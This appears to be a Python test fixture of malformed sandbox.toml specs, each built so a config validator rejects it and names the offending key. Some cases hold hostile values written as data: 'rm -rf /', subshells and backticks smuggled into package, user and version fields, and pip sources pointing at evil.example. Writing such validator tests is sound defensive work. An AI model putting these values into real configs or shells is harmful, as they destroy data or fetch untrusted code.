"""Malformed sandbox.toml files, each with what its error must name.

Every case is `(id, content, expected)`: `content` is the whole file (bytes when it is not
text at all), `expected` is the key the error must name (backquoted, as the message writes
it) or, for damage that has no key (empty, binary, broken syntax), the phrase or source line
that tells the user what is wrong. Each case is the valid `VALID` spec with one thing broken,
so it fails for that one reason. Cases that mention `web`, `api` or `escape` rely on the
project folders `test_spec.py` creates beside the spec:
`web/` (package.json + pnpm-lock.yaml), `api/` (package.json only) and `escape`, a symlink
to a complete pnpm project outside the project folder.
"""

from __future__ import annotations

IMAGE = '[image]\nname = "acme/sandbox"\n'
BASE = '[base]\nimage = "debian:bookworm-slim"\n'
VALID = IMAGE + BASE
DEPS_WEB = '[deps.web]\nmanager = "pnpm"\n'


def _image(*lines: str) -> str:
    """VALID with extra keys in [image]."""
    return IMAGE + "".join(line + "\n" for line in lines) + BASE


def _plus(text: str) -> str:
    """VALID followed by more tables."""
    return VALID + "\n" + text + "\n"


def _bootstrap(inline: str) -> str:
    return IMAGE + f"[base]\nbootstrap = {{ {inline} }}\n"


CASES: list[tuple[str, str | bytes, str]] = [
    # The file itself: empty, binary, not UTF-8.
    ("empty-file", "", "empty"),
    ("whitespace-only", "\n  \n\t\n", "empty"),
    ("comments-only", "# a sandbox, some day\n", "`image`"),
    ("nul-bytes", IMAGE + 'user = "agent\x00"\n' + BASE, "NUL"),
    ("binary-png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe", "UTF-8"),
    ("latin-1-text", (_image("# caf\xe9 au lait")).encode("latin-1"), "UTF-8"),
    # Broken TOML syntax: the error quotes the offending line, so it names the key.
    ("unclosed-array", _plus('[system]\npackages = ["git", "jq"'), "Unclosed array"),
    ("unclosed-table-header", _plus("[system\npackages = []"), "`[system`"),
    ("missing-equals", '[image]\nname "acme/sandbox"\n' + BASE, '`name "acme/sandbox"`'),
    ("unterminated-string", '[image]\nname = "acme/sandbox\n' + BASE, '`name = "acme/sandbox`'),
    ("bare-word-value", _image("user = agent"), "`user = agent`"),
    ("duplicate-key", _image('workdir = "/a"', 'workdir = "/b"'), '`workdir = "/b"`'),
    ("duplicate-table", VALID + '[image]\nuser = "agent"\n', "[image]"),
    ("duplicate-inline-key", _image('env = { LANG = "C", LANG = "C.UTF-8" }'), "LANG"),
    ("nested-too-deeply", VALID + "x = " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
    # Missing or misplaced tables.
    ("missing-image", BASE, "`image`"),
    ("missing-base", IMAGE, "`base`"),
    ("image-not-a-table", 'image = "acme/sandbox"\n' + BASE, "`image`"),
    ("image-array-of-tables", '[[image]]\nname = "acme/sandbox"\n' + BASE, "`image`"),
    ("base-neither-image-nor-bootstrap", IMAGE + "[base]\n", "`base`"),
    (
        "base-both-image-and-bootstrap",
        VALID + 'bootstrap = { suite = "bookworm" }\n',
        "`base`",
    ),
    # Unknown, misspelt and camelCase keys.
    ("unknown-top-level-table", _plus("[build]\njobs = 4"), "`build`"),
    ("unknown-image-key", _image('tag = "latest"'), "`image.tag`"),
    ("uid-not-settable", _image("uid = 0"), "`image.uid`"),
    ("misspelt-packages", _plus('[system]\npakages = ["git"]'), "`system.pakages`"),
    ("misspelt-table", _plus('[runtime]\nnode = "22"'), "`runtime`"),
    ("camel-extraMounts", _plus('[sandbox]\nextraMounts = ["/a:/b"]'), "`sandbox.extraMounts`"),
    (
        "camel-envPassthrough",
        _plus('[sandbox]\nenvPassthrough = ["DATABASE_URL"]'),
        "`sandbox.envPassthrough`",
    ),
    (
        "camel-egressAllowlist",
        _plus('[sandbox]\negressAllowlist = ["pypi.org"]'),
        "`sandbox.egressAllowlist`",
    ),
    ("kebab-allow-setuid", _image('allow-setuid = ["/usr/bin/sudo"]'), "`image.allow-setuid`"),
    (
        "unknown-security-key",
        _plus('[sandbox.security]\napparmor = "x"'),
        "`sandbox.security.apparmor`",
    ),
    ("unknown-resource", _plus("[sandbox.resources]\ngpus = 1"), "`sandbox.resources.gpus`"),
    ("unknown-logs-key", _plus('[sandbox.logs]\nmaxSize = "1m"'), "`sandbox.logs.maxSize`"),
    ("logs-max-file-string", _plus('[sandbox.logs]\nmax_file = "3"'), "`sandbox.logs.max_file`"),
    ("logs-driver-number", _plus("[sandbox.logs]\ndriver = 1"), "`sandbox.logs.driver`"),
    ("unknown-bin-key", _plus('[tools.bin.jq]\nversion = "1.7"\nsha = "x"'), "`tools.bin.jq.sha`"),
    # Wrong types.
    ("packages-is-a-string", _plus('[system]\npackages = "git"'), "`system.packages`"),
    ("packages-holds-a-number", _plus('[system]\npackages = ["git", 5]'), "`system.packages`"),
    ("user-is-a-number", _image("user = 5"), "`image.user`"),
    ("user-is-a-date", _image("user = 1979-05-27"), "`image.user`"),
    ("gvisor-is-a-string", _plus('[sandbox]\ngvisor = "yes"'), "`sandbox.gvisor`"),
    ("env-value-not-a-string", _image("env = { LANG = 1 }"), "`image.env`"),
    ("platforms-is-a-string", _image('platforms = "linux/amd64"'), "`image.platforms`"),
    ("runtime-version-unquoted", _plus("[runtimes]\nnode = 22"), "`runtimes.node`"),
    (
        "resource-is-a-boolean",
        _plus("[sandbox.resources]\nmemory = true"),
        "`sandbox.resources.memory`",
    ),
    ("bin-tool-not-a-table", _plus('[tools.bin]\nkubectl = "1.31.0"'), "`tools.bin.kubectl`"),
    ("deps-entry-not-a-table", _plus('[deps]\nweb = "web"'), "`deps.web`"),
    ("security-not-a-table", _plus('[sandbox]\nsecurity = "strict"'), "`sandbox.security`"),
    (
        "no-new-privileges-string",
        _plus('[sandbox.security]\nno_new_privileges = "yes"'),
        "`sandbox.security.no_new_privileges`",
    ),
    # Listed twice.
    ("pip-tool-twice", _plus('[tools]\npip = ["ruff", "ruff==0.6"]'), "`tools.pip`"),
    (
        "pip-tool-twice-normalized",
        _plus('[tools]\npip = ["mypy-extensions", "Mypy_Extensions==1.0"]'),
        "`tools.pip`",
    ),
    ("npm-tool-twice", _plus('[tools]\nnpm = ["typescript", "typescript@5"]'), "`tools.npm`"),
    (
        "npm-scoped-tool-twice",
        _plus('[tools]\nnpm = ["@openai/codex", "@openai/codex@0.1"]'),
        "`tools.npm`",
    ),
    ("package-twice", _plus('[system]\npackages = ["git", "jq", "git"]'), "`system.packages`"),
    ("platform-twice", _image('platforms = ["linux/amd64", "linux/amd64"]'), "`image.platforms`"),
    # Bad versions.
    ("runtime-latest-ish", _plus('[runtimes]\nnode = "latest-ish"'), "`runtimes.node`"),
    ("runtime-four-parts", _plus('[runtimes]\nnode = "22.1.2.3"'), "`runtimes.node`"),
    (
        "runtime-table-bad-version",
        _plus('[runtimes]\npython = { version = "3.12; reboot" }'),
        "`runtimes.python.version`",
    ),
    (
        "runtime-table-without-version",
        _plus('[runtimes]\nnode = { provider = "apt" }'),
        "`runtimes.node.version`",
    ),
    (
        "bin-version-injection",
        _plus('[tools.bin.jq]\nversion = "1.7 && reboot"\nurl = "https://x.org/jq"'),
        "`tools.bin.jq.version`",
    ),
    (
        "apt-version-injection",
        _plus('[system]\npackages = ["git=2.39 && reboot"]'),
        "`system.packages`",
    ),
    (
        "pip-url-requirement",
        _plus('[tools]\npip = ["ruff @ https://evil.example/ruff.whl"]'),
        "`tools.pip`",
    ),
    ("pip-option", _plus('[tools]\npip = ["--index-url=http://evil.example"]'), "`tools.pip`"),
    (
        "pip-specifier-pip-refuses",  # safe characters, but `.*` goes only with == and !=
        _plus('[tools]\npip = ["ruff>=0.6.*"]'),
        "`tools.pip`: 'ruff>=0.6.*' is not a valid PEP 508 requirement",
    ),
    ("npm-spec-injection", _plus('[tools]\nnpm = ["typescript@5; reboot"]'), "`tools.npm`"),
    # Names that would carry shell syntax into a build step.
    ("package-semicolon", _plus('[system]\npackages = ["git; rm -rf /"]'), "`system.packages`"),
    ("package-subshell", _plus('[system]\npackages = ["$(reboot)"]'), "`system.packages`"),
    (
        "package-apt-option",
        _plus('[system]\npackages = ["-oAPT::Get::Trivial-Only=1"]'),
        "`system.packages`",
    ),
    ("user-injection", _image('user = "agent; rm -rf /"'), "`image.user`"),
    ("user-backticks", _image('user = "`id`"'), "`image.user`"),
    ("user-newline", _image('user = "agent\\nroot"'), "`image.user`"),
    ("user-is-root", _image('user = "root"'), "`image.user`"),
    ("name-injection", '[image]\nname = "acme/sandbox; reboot"\n' + BASE, "`image.name`"),
    ("name-uppercase", '[image]\nname = "Acme/Sandbox"\n' + BASE, "`image.name`"),
    ("registry-with-scheme", _image('registry = "http://127.0.0.1:5000"'), "`image.registry`"),
    ("env-bad-name", _image('env = { "MY-VAR" = "x" }'), "`image.env`"),
    ("base-image-injection", IMAGE + '[base]\nimage = "debian;reboot"\n', "`base.image`"),
    ("suite-injection", _bootstrap('suite = "bookworm && reboot"'), "`base.bootstrap.suite`"),
    ("bootstrap-without-suite", _bootstrap('variant = "minbase"'), "`base.bootstrap.suite`"),
    (
        "mirror-not-http",
        _bootstrap('suite = "bookworm", mirror = "ftp://deb.debian.org/debian"'),
        "`base.bootstrap.mirror`",
    ),
    (
        "mirror-backticks",
        _bootstrap('suite = "bookworm", mirror = "http://x.org/`reboot`"'),
        "`base.bootstrap.mirror`",
    ),
    (
        "bootstrap-variant",
        _bootstrap('suite = "bookworm", variant = "fakechroot"'),
        "`base.bootstrap.variant`",
    ),
    (
        "bin-url-subshell",
        _plus('[tools.bin.jq]\nversion = "1.7"\nurl = "https://x.org/$(id)"'),
        "`tools.bin.jq.url`",
    ),
    (
        "bin-name-uppercase",
        _plus('[tools.bin.JQ]\nversion = "1.7"\nurl = "https://x.org/jq"'),
        "`tools.bin.JQ`",
    ),
    (
        "bin-auth-env-bad",
        _plus('[tools.bin.jq]\nversion = "1.7"\nurl = "https://x.org/jq"\nauth_env = "1TOKEN"'),
        "`tools.bin.jq.auth_env`",
    ),
    (
        "deps-name-with-space",
        _plus('[deps."web app"]\nmanager = "pnpm"\npath = "web"'),
        "`deps.web app`",
    ),
    # Paths that leave the project, or do not hold what they must.
    ("deps-path-parent", _plus(DEPS_WEB + 'path = "../x"'), "`deps.web.path`"),
    ("deps-path-absolute", _plus(DEPS_WEB + 'path = "/etc"'), "`deps.web.path`"),
    ("deps-path-empty", _plus(DEPS_WEB + 'path = ""'), "`deps.web.path`"),
    ("deps-path-symlink-escape", _plus(DEPS_WEB + 'path = "escape"'), "`deps.web.path`"),
    ("deps-path-too-long", _plus(DEPS_WEB + f'path = "{"x" * 300}"'), "`deps.web.path`"),
    ("deps-path-without-lockfile", _plus(DEPS_WEB + 'path = "api"'), "`deps.web.path`"),
    ("deps-path-missing", _plus(DEPS_WEB + 'path = "mobile"'), "`deps.web.path`"),
    (
        "deps-uv-without-uv-lock",
        _plus('[deps.web]\nmanager = "uv"\npath = "web"'),
        "`deps.web.path`",
    ),
    ("deps-without-path", _plus(DEPS_WEB), "`deps.web.path`"),
    ("deps-without-manager", _plus('[deps.web]\npath = "web"'), "`deps.web.manager`"),
    ("deps-bad-manager", _plus('[deps.web]\nmanager = "yarn"\npath = "web"'), "`deps.web.manager`"),
    ("deps-bad-mode", _plus(DEPS_WEB + 'path = "web"\nmode = "vendor"'), "`deps.web.mode`"),
    (
        "deps-mount-relative",
        _plus(DEPS_WEB + 'path = "web"\nmount = "node_modules"'),
        "`deps.web.mount`",
    ),
    (
        "bin-path-escape",
        _plus('[tools.bin.jq]\nversion = "1.7"\npath = "../jq"'),
        "`tools.bin.jq.path`",
    ),
    (
        "bin-url-and-path",
        _plus('[tools.bin.jq]\nversion = "1.7"\nurl = "https://x.org/jq"\npath = "jq"'),
        "`tools.bin.jq`",
    ),
    ("bin-neither-url-nor-path", _plus('[tools.bin.jq]\nversion = "1.7"'), "`tools.bin.jq`"),
    ("workdir-relative", _image('workdir = "workspace"'), "`image.workdir`"),
    ("workdir-dotdot", _image('workdir = "/workspace/../etc"'), "`image.workdir`"),
    ("allow-setuid-relative", _image('allow_setuid = ["usr/bin/sudo"]'), "`image.allow_setuid`"),
    # Platforms, providers, runtimes.
    ("unknown-platform", _image('platforms = ["linux/s390x"]'), "`image.platforms`"),
    ("platform-without-os", _image('platforms = ["amd64"]'), "`image.platforms`"),
    (
        "bad-provider",
        _plus('[runtimes]\npython = { version = "3.12", provider = "conda" }'),
        "`runtimes.python.provider`",
    ),
    ("unknown-runtime", _plus('[runtimes]\nruby = "3.3"'), "`runtimes.ruby`"),
    (
        "runtime-mirror-injection",
        _plus('[runtimes]\nnode = { version = "22", mirror = "https://x.org/;reboot" }'),
        "`runtimes.node.mirror`",
    ),
    # The orchestrator settings.
    (
        "mount-without-colon",
        _plus('[sandbox]\nextra_mounts = ["/srv/cache"]'),
        "`sandbox.extra_mounts`",
    ),
    (
        "mount-relative-host",
        _plus('[sandbox]\nextra_mounts = ["cache:/home/agent/.cache"]'),
        "`sandbox.extra_mounts`",
    ),
    ("mount-bad-mode", _plus('[sandbox]\nextra_mounts = ["/a:/b:rx"]'), "`sandbox.extra_mounts`"),
    (
        "mount-too-many-parts",
        _plus('[sandbox]\nextra_mounts = ["/a:/b:ro:z"]'),
        "`sandbox.extra_mounts`",
    ),
    (
        "egress-url-not-host",
        _plus('[sandbox]\negress_allowlist = ["https://registry.npmjs.org"]'),
        "`sandbox.egress_allowlist`",
    ),
    (
        "env-passthrough-bad-name",
        _plus('[sandbox]\nenv_passthrough = ["DATABASE-URL"]'),
        "`sandbox.env_passthrough`",
    ),
    ("network-with-space", _plus('[sandbox]\nnetwork = "my net"'), "`sandbox.network`"),
]
